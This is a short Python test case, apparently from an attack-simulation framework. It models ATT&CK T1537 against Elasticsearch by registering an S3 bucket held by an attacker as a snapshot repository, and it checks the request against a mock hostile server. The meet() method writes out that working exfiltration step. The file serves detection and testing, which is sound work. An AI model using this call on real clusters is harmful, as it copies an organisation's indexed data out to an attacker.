"""G12: a cluster is told of a place of the attacker's for its snapshots."""

from contextlib import closing

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.search import AbusedSearch


class ElasticsearchCopiedOut(AbusedSearch):
    """In an app whose account may do everything."""

    attack = "registers a bucket of the attacker's as a place for snapshots"
    reference = (
        "https://www.elastic.co/guide/en/elasticsearch/reference/current/snapshots-register-repository.html; "
        "ATT&CK T1537"
    )
    rule = "search-admin"

    def meet(self) -> object:
        """The attacker registers it."""
        with closing(self.open_client()) as client:
            place = {"type": "s3", "settings": {"bucket": "backup-of-shop"}}
            return client.snapshot.create_repository(name="nightly", repository=place)["acknowledged"]

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The server says that it is done."""
        return got is True and any(one.startswith(b"PUT /_snapshot/nightly") for one in service.kept)
